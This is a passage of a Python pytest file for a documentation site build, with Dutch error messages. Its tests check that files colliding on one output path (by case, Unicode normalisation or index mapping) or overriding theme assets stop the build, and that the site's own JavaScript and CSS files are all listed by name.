        ("a.md", "a/index.md"),
        ("a.md", "A.md"),
        ("a.md", "a/index.html"),
        ("\u00e9.md", "e\u0301.md"),
        ("assets/a.png", "assets/A.png"),
    ],
)
def test_two_files_at_one_address_stop_the_build_with_both_names(one: str, other: str) -> None:
    with pytest.raises(TwoAtOnePlace, match=r"'docs/een' .* en 'docs/ander' "):
        apart((Artifact(one, "", "docs/een"), Artifact(other, "", "docs/ander")))


def test_all_code_of_the_site_is_known_by_name() -> None:
    folder = ROOT / "docs/assets"
    there = {path for kind in ("javascripts", "stylesheets") for path in (folder / kind).rglob("*") if path.is_file()}
    known = (ROOT / "scripts/kennisbank/library/own_code.txt").read_text(encoding="utf-8").splitlines()
    assert known == sorted(path.relative_to(folder).as_posix() for path in there), "add or remove it in own_code.txt"
    assert all(goes_to_the_site(f"docs/assets/{name}") for name in known)


def test_files_that_lie_beside_each_other_do_not() -> None:
    made = (Artifact("a.md", ""), Artifact("a/b.md", ""), Artifact("a/tekst.txt", ""), Artifact("index.md", ""))
    assert apart(made) == made


@pytest.mark.parametrize(
    "path", ["images/favicon.png", "Images/Favicon.PNG", "javascripts/bundle.{}.min.js", "stylesheets/main.{}.min.css"]
)
def test_no_file_takes_the_place_of_one_of_the_theme(path: str) -> None:
    shipped = ("assets/images/favicon.png", "assets/javascripts/bundle.1.min.js", "assets/stylesheets/main.1.min.css")
    uri = f"assets/{path.format(1)}"
    with pytest.raises(TwoAtOnePlace, match=rf"'docs/{uri}' .* en 'assets/.*' van het thema"):
        apart((Artifact(uri, b"", f"docs/{uri}"),), shipped)
    assert apart((Artifact("assets/images/eigen.png", b""),), shipped)
